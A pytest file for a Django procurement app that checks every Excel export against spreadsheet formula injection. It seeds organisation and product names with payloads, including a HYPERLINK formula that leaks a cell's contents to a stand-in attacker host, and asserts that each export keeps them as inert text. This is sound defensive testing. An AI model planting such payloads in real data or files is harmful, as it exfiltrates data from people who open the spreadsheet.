"""Every Excel export neutralises text that a spreadsheet would run as a formula (issue 15, item 13): a product or
organisation named =HYPERLINK("http://…?leak="&B2, …) stays text, tested on each export."""

import io

import pytest
from django.core.management import call_command
from openpyxl import load_workbook

from accounts.models import Organisation, User
from credit.models import CreditRecord
from procurement.models import Product, TenderRound

pytestmark = pytest.mark.django_db

PAYLOADS = ['=HYPERLINK("http://evil.example/?leak="&B2,"click")', "+1+1", "-2+3", "@SUM(A1:A2)", "\t=1", "\r=1"]


@pytest.fixture
def poisoned(db):
    call_command("load_demo", verbosity=0)
    for index, organisation in enumerate(Organisation.objects.order_by("pk")):
        organisation.name = PAYLOADS[index % len(PAYLOADS)] + organisation.name
        organisation.save(update_fields=["name"])
    for index, product in enumerate(Product.objects.order_by("pk")):
        product.generic_name = PAYLOADS[index % len(PAYLOADS)] + product.generic_name
        product.save(update_fields=["generic_name"])
    CreditRecord.objects.update(document_number=PAYLOADS[0])


def _cells(content: bytes):
    workbook = load_workbook(io.BytesIO(content))
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            yield from row


def _exports():
    opened = TenderRound.objects.get(code="GY-2025-09")
    month = "2026-11"
    return [
        ("officer", "/catalog/products/export.xlsx"),
        ("officer", f"/rounds/{opened.pk}/opening.xlsx"),
        ("officer", "/contracts/export.xlsx"),
        ("officer", "/contracts/settlement/?export=prepayments"),
        ("officer", f"/contracts/settlement/?export=statements&month={month}"),
        ("hospital1", "/contracts/export.xlsx"),
        ("supplier1", "/contracts/export.xlsx"),
        ("officer", "/pricing/standards/?export=1"),
        ("officer", "/pricing/savings/?export=1"),
        ("credit", "/credit/records/export.xlsx"),
        ("credit", "/credit/ratings/export.xlsx"),
    ]


def test_no_export_holds_a_live_formula(client, poisoned):
    checked, workbooks = 0, 0
    for username, url in _exports():
        client.force_login(User.objects.get(username=username))
        response = client.get(url)
        assert response.status_code == 200, url
        assert response["Content-Type"].startswith("application/vnd.openxmlformats"), url
        workbooks += 1
        content = b"".join(response.streaming_content) if response.streaming else response.content
        for cell in _cells(content):
            assert cell.data_type != "f", (url, cell.coordinate, cell.value)
            if isinstance(cell.value, str):
                assert not cell.value.startswith(("=", "+", "-", "@", "\t", "\r")), (url, cell.value)
                checked += any(payload in cell.value for payload in PAYLOADS)
    assert workbooks == len(_exports())
    assert checked > 20  # the poisoned names really reached the exports
